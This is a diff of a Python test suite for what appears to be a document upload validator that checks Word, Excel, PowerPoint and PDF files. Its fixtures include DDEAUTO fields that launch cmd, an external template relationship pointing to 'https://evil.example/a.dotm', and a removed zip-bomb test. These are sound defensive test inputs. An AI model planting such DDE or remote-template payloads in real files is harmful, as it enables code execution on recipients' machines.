@@ -29,8 +29,8 @@ OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
 DOCUMENT = {
     "[Content_Types].xml": f'<Types><Override ContentType="{MAIN["word"]}" PartName="/word/document.xml"/></Types>'
 }
-DDE_FIELD = "<w:instrText xml:space='preserve'> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText>"
-DDE_SIMPLE = '<w:fldSimple w:instr="DDEAUTO cmd">'
+DDE_FIELD = "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r></w:p>"
+DDE_SIMPLE = '<w:fldSimple w:instr="DDEAUTO cmd"/>'
 AFAR = (
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
     ' Target="https://evil.example/a.dotm" TargetMode="External"/>'
@@ -73,7 +73,10 @@ TAKEN = {
     "a.docx": DOCX,
     "webb.docx": office("word/document2.xml"),
     "webb.xlsx": office("xl/workbook22.xml"),
-    "egen-mall.docx": office("word/document.xml", **{"word/_rels/settings.xml.rels": AFAR.replace("https:", "file:")}),
+    "egen-mall.docx": office(
+        "word/document.xml",
+        **{"word/_rels/settings.xml.rels": AFAR.replace("https://evil.example", "file:///C:\\mallar")},
+    ),
     "talar-om-dde.docx": office("word/document.xml", **{"word/header1.xml": "<w:t>DDE</w:t>"}),
     "ägarlösen.pdf": pdf(encryption=pikepdf.Encryption(user="", owner="ägare")),
     "länk.pdf": pdf(link),
@@ -142,7 +145,7 @@ REFUSED = {
     ),
     "mycket.docx": (
         office("word/document.xml", **{f"word/{n}.xml": "" for n in range(2000)}),
-        "mer än ett dokument rymmer",
+        "har fler eller större delar än som kan granskas. Spara den på nytt, eller som PDF, och försök igen.",
     ),
     "kort.pdf": (b"%PDF-1.7\n1 0 obj\n<<>>\n", UNREADABLE),
     "tomma-sidor.pdf": (b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", UNREADABLE),
@@ -181,12 +184,6 @@ def test_a_wrong_suffix_is_told_with_the_right_one():
     assert error.value.messages == [
         "”rapport.pdf” är ett Word-dokument men namnet säger något annat. Låt det sluta på .docx."
     ]
-
-
-def test_a_packed_bomb_is_not_unpacked():
-    bomb = office("word/document.xml", **{"word/media/a.xml": "0" * 50_000_000})
-    assert len(bomb) < 100_000
-    assert kind_of("bomb.docx", bomb).suffixes == (".docx",)
 
 
 @pytest.mark.parametrize(
@@ -230,16 +227,20 @@ WRITTEN = {
     "a.txt": "Räka\r\nHemlig".encode("cp1252"),
     "a.csv": "Räka;1\nHemlig;2".encode("utf-8-sig"),
     "a.docx": office(
-        "word/document.xml", **{"word/header1.xml": "<w:p><w:t>Rä</w:t><w:t>ka</w:t></w:p><w:p><w:t>Hemlig</w:t></w:p>"}
+        "word/document.xml",
+        **{"word/header1.xml": "<x><w:p><w:t>Rä</w:t><w:t>ka</w:t></w:p><w:p><w:t>Hemlig</w:t></w:p></x>"},
     ),
-    "a.xlsx": office("xl/workbook.xml", **{"xl/sharedStrings.xml": "<si><t>Räka</t></si><si><t>Hemlig</t></si>"}),
+    "a.xlsx": office(
+        "xl/workbook.xml", **{"xl/sharedStrings.xml": "<sst><si><t>Räka</t></si><si><t>Hemlig</t></si></sst>"}
+    ),
     "a.pptx": office(
-        "ppt/presentation.xml", **{"ppt/slides/slide1.xml": "<a:p><a:t>Räka</a:t></a:p><a:p><a:t>Hemlig</a:t></a:p>"}
+        "ppt/presentation.xml",
+        **{"ppt/slides/slide1.xml": "<x><a:p><a:t>Räka</a:t></a:p><a:p><a:t>Hemlig</a:t></a:p></x>"},
     ),
     "a.odt": packed(
         {
             "mimetype": "application/vnd.oasis.opendocument.text",
-            "content.xml": "<text:p>R&#228;<text:span>ka</text:span></text:p><text:p>Hemlig</text:p>",
+            "content.xml": "<x><text:p>R&#228;<text:span>ka</text:span></text:p><text:p>Hemlig</text:p></x>",
         }
     ),
 }
